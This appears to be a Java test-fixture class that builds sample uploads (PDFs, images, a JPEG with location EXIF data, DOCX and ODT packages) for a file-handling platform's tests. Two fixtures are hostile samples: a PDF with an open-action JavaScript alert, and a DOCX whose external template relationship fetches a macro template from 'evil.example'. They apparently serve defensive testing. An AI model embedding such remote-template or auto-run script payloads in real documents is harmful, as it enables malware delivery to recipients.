package nl.zorgvuldig.platform.files;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts.FontName;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;

/// Files as people send them, made here: pictures, papers, documents.
public final class SampleDocuments {
    private SampleDocuments() {}

    /// What is done to a PDF before it is saved.
    public interface Change {
        void to(PDDocument document) throws IOException;
    }

    public static byte[] pdf(int pages) {
        return pdf(pages, document -> {});
    }

    public static byte[] pdf(int pages, Change change) {
        try (PDDocument document = new PDDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            for (int number = 1; number <= pages; number++) {
                PDPage page = new PDPage(PDRectangle.A4);
                document.addPage(page);
                try (PDPageContentStream text = new PDPageContentStream(document, page)) {
                    text.beginText();
                    text.setFont(new PDType1Font(FontName.HELVETICA), 28);
                    text.newLineAtOffset(72, 740);
                    text.showText("Verslag, bladzijde " + number);
                    text.endText();
                }
            }
            change.to(document);
            document.save(out);
            return out.toByteArray();
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
    }

    public static byte[] pdfWithScript() {
        return pdf(1, paper -> paper.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")));
    }

    /// A picture wider than high, of which the left half is red.
    public static byte[] picture(String kind, int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D pen = image.createGraphics();
        pen.setColor(Color.WHITE);
        pen.fillRect(0, 0, width, height);
        pen.setColor(Color.RED);
        pen.fillRect(0, 0, width / 2, height);
        pen.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, kind, out);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return out.toByteArray();
    }

    /// A JPEG as a telephone makes it: held upright (so to be turned a quarter), with the maker,
    /// and the place where it was taken.
    public static byte[] photo(int width, int height) {
        byte[] plain = picture("jpg", width, height);
        byte[] exif = exif();
        ByteBuffer all = ByteBuffer.allocate(plain.length + 4 + exif.length);
        all.put(plain, 0, 2);
        all.put((byte) 0xff)
                .put((byte) 0xe1)
                .putShort((short) (exif.length + 2))
                .put(exif);
        all.put(plain, 2, plain.length - 2);
        return all.array();
    }

    private static byte[] exif() {
        ByteBuffer exif = ByteBuffer.allocate(400);
        exif.put("Exif\0\0".getBytes(UTF_8));
        int start = exif.position();
        exif.order(ByteOrder.BIG_ENDIAN)
                .put("MM".getBytes(UTF_8))
                .putShort((short) 42)
                .putInt(8);
        byte[] maker = "TELEFOON-VAN-JUF-NOOR\0".getBytes(UTF_8);
        int makerAt = 8 + 2 + 3 * 12 + 4;
        int gpsAt = makerAt + maker.length;
        exif.putShort((short) 3);
        entry(exif, 0x010f, 2, maker.length, makerAt);
        exif.putShort((short) 0x0112)
                .putShort((short) 3)
                .putInt(1)
                .putShort((short) 6)
                .putShort((short) 0);
        entry(exif, 0x8825, 4, 1, gpsAt);
        exif.putInt(0).put(maker);
        int valueAt = gpsAt + 2 + 2 * 12 + 4;
        exif.putShort((short) 2);
        exif.putShort((short) 1).putShort((short) 2).putInt(2).put(new byte[] {'N', 0, 0, 0});
        entry(exif, 2, 5, 3, valueAt);
        exif.putInt(0);
        for (int part : new int[] {52, 22, 1234}) {
            exif.putInt(part).putInt(1);
        }
        return Arrays.copyOf(exif.array(), Math.max(exif.position(), start));
    }

    private static void entry(ByteBuffer exif, int tag, int type, int count, int value) {
        exif.putShort((short) tag).putShort((short) type).putInt(count).putInt(value);
    }

    public static byte[] docx(String... paragraphs) {
        return zip(docxParts(paragraphs));
    }

    /// It has its template elsewhere: who opens it fetches that.
    public static byte[] docxWithTemplate(String... paragraphs) {
        Map<String, byte[]> parts = docxParts(paragraphs);
        parts.put(
                "word/_rels/document.xml.rels",
                relationships("<Relationship Id=\"r1\" Type=\""
                        + RELATION
                        + "attachedTemplate\" Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/>"));
        return zip(parts);
    }

    static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    static byte[] relationships(String each) {
        return ("<Relationships"
                        + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + each
                        + "</Relationships>")
                .getBytes(UTF_8);
    }

    public static Map<String, byte[]> docxParts(String... paragraphs) {
        StringBuilder text = new StringBuilder();
        for (String paragraph : paragraphs) {
            text.append("<w:p><w:r><w:t>").append(paragraph).append("</w:t></w:r></w:p>");
        }
        Map<String, byte[]> parts = new TreeMap<>();
        parts.put(
                "[Content_Types].xml",
                ("<Types"
                                + " xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default"
                                + " Extension=\"rels\""
                                + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default"
                                + " Extension=\"xml\" ContentType=\"application/xml\"/><Override"
                                + " PartName=\"/word/document.xml\""
                                + " ContentType=\"application/vnd.openxmlformats-"
                                + "officedocument.wordprocessingml.document.main+xml\"/></Types>")
                        .getBytes(UTF_8));
        parts.put(
                "_rels/.rels",
                relationships("<Relationship Id=\"r1\" Type=\""
                        + RELATION
                        + "officeDocument\" Target=\"word/document.xml\"/>"));
        parts.put(
                "word/document.xml",
                ("<w:document"
                                + " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                                + "<w:body>"
                                + text
                                + "</w:body></w:document>")
                        .getBytes(UTF_8));
        return parts;
    }

    public static Map<String, byte[]> odtParts(String... paragraphs) {
        StringBuilder text = new StringBuilder();
        for (String paragraph : paragraphs) {
            text.append("<text:p>").append(paragraph).append("</text:p>");
        }
        Map<String, byte[]> parts = new TreeMap<>();
        parts.put("mimetype", "application/vnd.oasis.opendocument.text".getBytes(UTF_8));
        parts.put("META-INF/manifest.xml", manifest("text/xml", "content.xml"));
        parts.put("content.xml", ("<o:c xmlns:o=\"urn:o\" xmlns:text=\"urn:t\">" + text + "</o:c>").getBytes(UTF_8));
        return parts;
    }

    /// @param names of other parts
    static byte[] manifest(String type, String... names) {
        StringBuilder each = new StringBuilder();
        for (String name : names) {
            each.append("<m:file-entry m:full-path=\"")
                    .append(name)
                    .append("\" m:media-type=\"")
                    .append(type)
                    .append("\"/>");
        }
        return ("<m:manifest xmlns:m=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">" + each + "</m:manifest>")
                .getBytes(UTF_8);
    }

    public static byte[] zip(Map<String, byte[]> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                ZipEntry entry = new ZipEntry(part.getKey());
                entry.setTime(0); // the same each time, whatever the clock says
                zip.putNextEntry(entry);
                zip.write(part.getValue());
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return out.toByteArray();
    }

    public static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
